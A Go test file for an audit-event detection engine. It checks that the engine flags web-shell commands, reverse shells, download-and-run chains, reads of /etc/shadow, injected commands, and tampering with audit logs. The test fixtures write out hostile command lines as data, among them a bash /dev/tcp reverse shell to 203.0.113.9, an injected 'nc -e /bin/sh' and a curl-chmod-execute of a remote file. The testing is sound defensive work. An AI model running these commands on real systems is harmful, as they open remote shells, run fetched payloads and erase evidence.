package detect

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/internal/groundtruth"
	"github.com/auditchain/auditchain/parser"
)

// TestLabGroundTruth: every attack stage with evidence gets a finding in
// its window (5 s before to 65 s after, as ground-truth-check.py), and no
// high or critical finding cites a benign step's serial.
func TestLabGroundTruth(t *testing.T) {
	for _, dir := range labCaptures(t) {
		t.Run(filepath.Base(dir), func(t *testing.T) { testGroundTruth(t, dir) })
	}
}

func testGroundTruth(t *testing.T, dir string) {
	gt, err := groundtruth.Load(filepath.Join(dir, "ground-truth.json"))
	if err != nil {
		t.Fatal(err)
	}
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	evs, tree := labEvents(t, dir)
	fs := runLab(t, e, evs, tree)

	windows, expected, benign := gt.Windows()
	known, err := groundtruth.LoadKnownHigh(dir)
	if err != nil {
		t.Fatal(err)
	}
	seen := make([]bool, len(known))
	isKnown := func(f *Finding) bool {
		return f.Severity >= SeverityHigh && f.Event != nil &&
			groundtruth.Known(known, seen, f.RuleID, f.Event.FirstEvidence().Serial)
	}
	found := map[int]bool{}
	for _, f := range fs {
		if w, ok := windows[int(f.Stage)]; ok && w.Contains(f.Time) {
			found[int(f.Stage)] = true
		}
		if isKnown(f) {
			continue // recorded in known-high.json, with why
		}
		if f.Severity >= SeverityHigh {
			for _, ev := range append([]*parser.Event{f.Event}, f.Related...) {
				if step, ok := benign[ev.FirstEvidence().Serial]; ok {
					t.Errorf("%s finding %s cites serial %d of benign step %s", f.Severity, f.RuleID, ev.FirstEvidence().Serial, step)
				}
			}
		}
	}
	for i, k := range known {
		if !seen[i] {
			t.Errorf("known-high.json records %s on serial %d, which no longer happens: remove the entry", k.Rule, k.Serial)
		}
	}
	if len(windows) == 0 { // a day without an attack: nothing high at all
		for _, f := range fs {
			if f.Severity >= SeverityHigh && !isKnown(f) {
				t.Errorf("benign capture: %s finding %s at %s", f.Severity, f.RuleID, f.Time.Format(time.RFC3339Nano))
			}
		}
	}
	missed := t.Errorf
	if why, ok := labPending[filepath.Base(dir)]; ok {
		missed = func(format string, args ...any) { t.Logf("pending, "+why+": "+format, args...) }
	}
	for st := range expected {
		if !found[st] {
			missed("stage %d (%s) has evidence but no finding in its window", st, Stage(st))
		}
	}
	if out := os.Getenv("AUDITCHAIN_FINDINGS_DIR"); out != "" { // for ground-truth-check.py
		b, _ := reportJSON(fs)
		os.WriteFile(filepath.Join(out, filepath.Base(dir)+".json"), b, 0o644)
	}
}

func cmdOf(ev *parser.Event) string { return strings.Join(ev.Args, " ") }

// TestHeadlineOnLab: the web-server rule fires on the web shell's commands
// and the reverse shell, placed per match; the benign health checks and
// mail() yield no high finding.
func TestHeadlineOnLab(t *testing.T) {
	dir := labCapture(t)
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	evs, tree := labEvents(t, dir)
	byEvent := map[*parser.Event][]*Finding{}
	for _, ev := range evs {
		byEvent[ev] = e.Observe(ev, tree)
	}
	wantHeadline := map[string]Stage{
		"sh -c id 2>&1":              StageCommandExecution,
		"sh -c whoami 2>&1":          StageCommandExecution,
		"sh -c uname -a 2>&1":        StageCommandExecution,
		"sh -c cat /etc/passwd 2>&1": StageCommandExecution,
		"sh -c cat /etc/shadow 2>&1": StageSuspiciousSpawn,
		"sh -c bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' 2>&1": StageSuspiciousSpawn,
	}
	seen := map[string]bool{}
	benignExecs, channelCmds := 0, 0
	for _, ev := range evs {
		fs := byEvent[ev]
		c := cmdOf(ev)
		if stage, ok := wantHeadline[c]; ok && ev.Kind == parser.KindExec {
			f := has(fs, "web-server-exploitation")
			switch {
			case f == nil:
				t.Errorf("%q: no headline finding (got %v)", c, ids(fs))
			case f.Stage != stage || f.Severity < SeverityHigh:
				t.Errorf("%q: stage %v severity %v, want %v high or more", c, f.Stage, f.Severity, stage)
			case len(f.Attack) == 0 || f.Process == nil || len(f.Ancestors) == 0:
				t.Errorf("%q: finding lacks ATT&CK, process or ancestry: %+v", c, f)
			}
			seen[c] = true
		}
		if ev.Kind == parser.KindExec && (strings.HasPrefix(c, "sh -c date -u") || strings.Contains(c, "sendmail -t -i") || ev.Proc != nil && ev.Proc.Parent != nil && strings.Contains(ev.Proc.Parent.CommandLine(), "sendmail")) {
			benignExecs++
			for _, f := range fs {
				if f.Severity >= SeverityHigh {
					t.Errorf("benign %q: %s finding %s", c, f.Severity, f.RuleID)
				}
			}
		}
		if ev.Kind == parser.KindConnect && ev.Peer.Port == 4444 {
			if f := has(fs, "web-reverse-shell-connect"); f == nil || f.Stage != StageCommandAndControl {
				t.Errorf("reverse shell connect: %v", ids(fs))
			}
		}
		if ev.Kind == parser.KindExec && (c == "hostname" || c == "ps -ef --forest") && ev.Proc.Parent != nil && ev.Proc.Parent.CommandLine() == "bash -i" {
			channelCmds++
			f := has(fs, "reverse-shell-channel-command")
			if f == nil || f.Stage != StageCommandAndControl || len(f.Related) == 0 || f.Related[0].Kind != parser.KindConnect {
				t.Errorf("%q in the reverse shell: %v", c, ids(fs))
			}
		}
	}
	for c := range wantHeadline {
		if !seen[c] {
			t.Errorf("lab has no exec of %q", c)
		}
	}
	if benignExecs < 10 || channelCmds < 2 {
		t.Errorf("lab shape changed: %d benign execs, %d channel commands", benignExecs, channelCmds)
	}
}

func TestAllowlist(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "allow.yml")
	os.WriteFile(good, []byte(`# site: status.php runs date for the kube probe
- rule: web-server-shell-spawn
  reason: kube-probe health check
  CommandLine|startswith: "sh -c date"
  User: www-data
`), 0o644)
	e, err := New(Options{Allowlist: good})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	s.exec(100, 1, 33, "www-data", "/var/www/html", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
	if fs := e.Observe(s.exec(101, 100, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", "date -u +%s"), s.tree); len(fs) != 0 {
		t.Errorf("allowlisted health check: %v", ids(fs))
	}
	if fs := e.Observe(s.exec(102, 100, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", "id"), s.tree); has(fs, "web-server-shell-spawn") == nil {
		t.Errorf("sh -c id was allowed too: %v", ids(fs))
	}
	plain, _ := New(Options{})
	if e.Version() == plain.Version() {
		t.Error("Version ignores the allowlist")
	}

	for name, tc := range map[string]struct{ text, want string }{
		"unknown rule":  {"- rule: no-such-rule\n  Image: x\n", ":1: allowlist entry: no rule has id no-such-rule"},
		"unknown field": {"- rule: web-server-shell-spawn\n  TargetFilename: x\n", ":2: allowlist field TargetFilename is not provided"},
		"no condition":  {"- rule: web-server-shell-spawn\n  reason: x\n", ":1: allowlist entry for web-server-shell-spawn has no field condition"},
		"not a list":    {"rule: x\n", ":1: allowlist: want a list"},
	} {
		p := filepath.Join(dir, strings.ReplaceAll(name, " ", "_")+".yml")
		os.WriteFile(p, []byte(tc.text), 0o644)
		if _, err := New(Options{Allowlist: p}); err == nil || !strings.Contains(err.Error(), p+tc.want) {
			t.Errorf("%s: err %v, want %q", name, err, p+tc.want)
		}
	}
}

// TestTampering: removing rules, disabling auditing, stopping the daemon,
// and wiping logs are findings about the evidence itself.
func TestTampering(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	s.exec(50, 1, 0, "root", "/root", "/usr/bin/bash", "bash")
	cases := []struct {
		name string
		ev   *parser.Event
		rule string
	}{
		{"auditctl -D", s.exec(51, 50, 0, "root", "/root", "/usr/sbin/auditctl", "auditctl", "-D"), "audit-tamper-command"},
		{"rule removed", s.raw(parser.KindConfig, "CONFIG_CHANGE", "remove_rule", `auid=0 ses=3 op=remove_rule key="exec" list=4 res=1`), "audit-rules-removed"},
		{"auditing disabled", s.raw(parser.KindConfig, "CONFIG_CHANGE", "set", `op=set audit_enabled=0 old=1 auid=0 ses=3 res=1`), "audit-disabled"},
		{"daemon end", s.raw(parser.KindDaemon, "DAEMON_END", "terminate", `op=terminate auid=0 uid=0 ses=3 pid=1 res=success`), "audit-daemon-stopped"},
		{"systemctl stop", s.exec(52, 50, 0, "root", "/root", "/usr/bin/systemctl", "systemctl", "stop", "auditd"), "audit-tamper-command"},
		{"log truncated", s.file(parser.KindFileWrite, 50, 1, 0, "/usr/bin/bash", "/var/log/audit/audit.log", true), "log-tampering-write"},
		{"log deleted", s.file(parser.KindUnlink, 53, 50, 0, "/usr/bin/rm", "/var/log/nginx/access.log", true), "log-tampering-delete"},
		{"history cleared", s.exec(54, 50, 0, "root", "/root", "/usr/bin/bash", "bash", "-c", "history -c; unset HISTFILE"), "log-tampering-command"},
	}
	for _, tc := range cases {
		fs := e.Observe(tc.ev, s.tree)
		f := has(fs, tc.rule)
		if f == nil || !f.Tampering || f.Stage != StageNone {
			t.Errorf("%s: findings %v, want %s with Tampering and no stage", tc.name, ids(fs), tc.rule)
		}
	}
	// a normal rule load at start is not tampering
	if fs := e.Observe(s.raw(parser.KindConfig, "CONFIG_CHANGE", "add_rule", `auid=0 ses=3 op=add_rule key="exec" list=4 res=1`), s.tree); len(fs) != 0 {
		t.Errorf("add_rule: %v", ids(fs))
	}
}

// TestBehaviour: what no single event shows — a shell that connects out
// without telling how, and a file written by the web server then run.
func TestBehaviour(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	s.exec(200, 1, 33, "www-data", "/", "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
	// an innocuous-looking command string: only the connect gives it away
	s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "python3 /var/www/html/x.py")
	s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/python3.11", "python3", "/var/www/html/x.py")
	fs := e.Observe(s.connect(202, 201, 33, "/usr/bin/python3.11", "203.0.113.9", 443), s.tree)
	if f := has(fs, "web-reverse-shell-connect"); f == nil || f.Stage != StageCommandAndControl {
		t.Fatalf("python connect: %v", ids(fs))
	}
	s.exec(203, 202, 33, "www-data", "/var/www", "/usr/bin/bash", "/bin/bash", "-i")
	fs = e.Observe(s.exec(204, 203, 33, "www-data", "/var/www", "/usr/bin/whoami", "whoami"), s.tree)
	if f := has(fs, "reverse-shell-channel-command"); f == nil || f.Stage != StageCommandAndControl || !strings.Contains(f.Reason, "203.0.113.9:443") {
		t.Errorf("whoami in the channel: %v", ids(fs))
	}
	// the server's own connections (upstreams, databases) are not channels
	if fs := e.Observe(s.connect(200, 1, 33, "/usr/sbin/apache2", "10.0.0.5", 3306), s.tree); len(fs) != 0 {
		t.Errorf("apache's own connect: %v", ids(fs))
	}

	// download, chmod, run
	s.exec(210, 200, 33, "www-data", "/tmp", "/usr/bin/dash", "sh", "-c", "curl -so /tmp/.x http://198.51.100.7/x; chmod +x /tmp/.x; /tmp/.x")
	fs = e.Observe(s.exec(211, 210, 33, "www-data", "/tmp", "/usr/bin/curl", "curl", "-so", "/tmp/.x", "http://198.51.100.7/x"), s.tree)
	if f := has(fs, "ingress-tool-download"); f == nil || f.Stage != StageSuspiciousSpawn {
		t.Errorf("download: %v", ids(fs))
	}
	e.Observe(s.file(parser.KindFileWrite, 211, 210, 33, "/usr/bin/curl", "/tmp/.x", true), s.tree)
	fs = e.Observe(s.exec(212, 210, 33, "www-data", "/tmp", "/usr/bin/chmod", "chmod", "+x", "/tmp/.x"), s.tree)
	if has(fs, "make-executable-temp") == nil {
		t.Errorf("chmod +x: %v", ids(fs))
	}
	fs = e.Observe(s.exec(213, 210, 33, "www-data", "/tmp", "/tmp/.x", "/tmp/.x"), s.tree)
	if f := has(fs, "ingress-tool-exec"); f == nil || f.Stage != StageSuspiciousSpawn {
		t.Errorf("run of the download: %v", ids(fs))
	}

	// failed open of /etc/shadow by the web account is still an attempt
	fs = e.Observe(s.file(parser.KindFileRead, 214, 210, 33, "/usr/bin/cat", "/etc/shadow", false), s.tree)
	if f := has(fs, "credential-file-access"); f == nil || f.Stage != StageSuspiciousSpawn {
		t.Errorf("failed shadow read: %v", ids(fs))
	}
	// root daemons read shadow all day
	if fs := e.Observe(s.file(parser.KindFileRead, 300, 1, 0, "/usr/sbin/sshd", "/etc/shadow", true), s.tree); len(fs) != 0 {
		t.Errorf("sshd shadow read: %v", ids(fs))
	}
}

// TestInjectionAndOrphans: a command injection into an application's own
// shell command, and a payload backgrounded with nohup that init adopts
// before it runs (ppid=1), still tied to the web server.
func TestInjectionAndOrphans(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	worker := s.next(&parser.Event{Kind: parser.KindSyscall, Syscall: "accept4", Success: true, PID: 400, PPID: 399,
		UID: parser.NewID(2004), User: "webapp", Exe: "/usr/bin/python3.11", Comm: "gunicorn: worke"})
	_ = worker
	ping := []string{"/bin/sh", "-c", "ping -c 1 -W 1 127.0.0.1"}
	fs := e.Observe(s.exec(401, 400, 2004, "webapp", "/srv/webapp", "/usr/bin/dash", ping...), s.tree)
	if f := has(fs, "web-server-shell-spawn"); f == nil || f.Stage != StageCommandExecution {
		t.Fatalf("gunicorn worker → sh: %v", ids(fs))
	}
	fs = e.Observe(s.exec(402, 400, 2004, "webapp", "/srv/webapp", "/usr/bin/dash", "/bin/sh", "-c", "ping -c 1 -W 1 127.0.0.1;echo inj-$((6*7))"), s.tree)
	if f := has(fs, "web-server-shell-spawn"); f == nil || f.Stage != StageInitialAccess {
		t.Errorf("injection probe: %v", fs)
	}
	e.Observe(s.exec(403, 400, 2004, "webapp", "/srv/webapp", "/usr/bin/dash", "/bin/sh", "-c", "ping -c 1 -W 1 127.0.0.1;nohup nc.traditional -e /bin/sh 127.0.0.1 4446 &"), s.tree)
	orphan := s.exec(404, 1, 2004, "webapp", "/srv/webapp", "/usr/bin/nc.traditional", "nc.traditional", "-e", "/bin/sh", "127.0.0.1", "4446")
	if fs := e.Observe(orphan, s.tree); has(fs, "web-server-reverse-shell") == nil {
		t.Errorf("orphaned nc -e: %v", ids(fs))
	}
	if fs := e.Observe(s.connect(404, 1, 2004, "/usr/bin/nc.traditional", "127.0.0.1", 4446), s.tree); has(fs, "web-reverse-shell-connect") == nil {
		t.Errorf("orphaned nc connect: %v", ids(fs))
	}
	// an orphan of another account, or long after, is not adopted
	late := s.exec(405, 1, 1000, "alice", "/home/alice", "/usr/bin/nc.traditional", "nc.traditional", "-e", "/bin/sh", "127.0.0.1", "4446")
	// (a shell handed to a socket is still a reverse shell whoever runs
	// it: reverse-shell-command, judged without the web context)
	if fs := e.Observe(late, s.tree); has(fs, "web-server-reverse-shell") != nil || has(fs, "reverse-shell-command") == nil || len(fs) != 1 {
		t.Errorf("alice's orphan: %v, want reverse-shell-command alone (not adopted for the web server)", ids(fs))
	}
}

// TestStateBounded: the cross-event tables never grow past their caps.
func TestStateBounded(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	s.exec(10, 1, 33, "www-data", "/", "/usr/sbin/nginx", "nginx")
	for i := 0; i < maxChannels+50; i++ {
		pid := 1000 + i
		s.exec(pid, 10, 33, "www-data", "/", "/usr/bin/bash", "bash", "-c", "x")
		e.Observe(s.connect(pid, 10, 33, "/usr/bin/bash", "192.0.2.1", 4444), s.tree)
	}
	for i := 0; i < maxWritten+50; i++ {
		e.Observe(s.file(parser.KindFileWrite, 20000+i, 10, 33, "/usr/bin/curl", "/tmp/f"+time.Duration(i).String(), true), s.tree)
	}
	if n := len(e.state.channels); n > maxChannels || len(e.state.chanOrder) != n {
		t.Errorf("%d channels", n)
	}
	if n := len(e.state.written); n > maxWritten || len(e.state.writeOrder) != n {
		t.Errorf("%d written files", n)
	}
}

// TestDeterministic: two runs over the same events give the same findings
// in the same order.
func TestDeterministic(t *testing.T) {
	dir := labCapture(t)
	evs, tree := labEvents(t, dir)
	summary := func() []string {
		e, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, f := range runLab(t, e, evs, tree) {
			out = append(out, f.RuleID+" "+f.Stage.String()+" "+f.Time.String()+" "+f.Reason)
		}
		return out
	}
	a, b := summary(), summary()
	if !reflect.DeepEqual(a, b) || len(a) == 0 {
		t.Errorf("runs differ or are empty (%d vs %d findings)", len(a), len(b))
	}
}

// TestPlacementBinaryArgv0: Tetragon reports the binary path as argv[0];
// "crontab -" run inside a reverse shell is persistence whichever way
// argv[0] is written.
func TestPlacementBinaryArgv0(t *testing.T) {
	for _, argv0 := range []string{"crontab", "/usr/bin/crontab"} {
		e, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		s := newSynth()
		s.exec(200, 1, 33, "www-data", "/", "/usr/sbin/php-fpm8.2", "/usr/sbin/php-fpm8.2")
		s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
		e.Observe(s.connect(201, 200, 33, "/usr/bin/bash", "203.0.113.9", 4444), s.tree)
		s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/bash", "bash", "-i")
		fs := e.Observe(s.exec(203, 202, 33, "www-data", "/var/www", "/usr/bin/crontab", argv0, "-"), s.tree)
		f := has(fs, "reverse-shell-channel-command")
		if f == nil || f.Stage != StagePersistence {
			t.Errorf("argv[0] %q: %v (stage %v)", argv0, ids(fs), f)
		}
	}
	if got := placementCommand([]string{"/usr/bin/crontab", "-"}, "/usr/bin/crontab -"); got != "crontab -" {
		t.Errorf("placementCommand = %q", got)
	}
}

// TestObserveAfterFinish: Finish lets the detection state go; an event
// after it gets a fresh state and its findings, never a crash.
func TestObserveAfterFinish(t *testing.T) {
	e, s := webShellScene(t)
	e.Finish()
	if f := findingOf(e.Observe(s.exec(210, 201, 33, "www-data", "/var/www", "/usr/sbin/iptables", "iptables", "-F"), s.tree), "defense-impair-web"); f == nil {
		t.Error("no finding after Finish")
	}
}
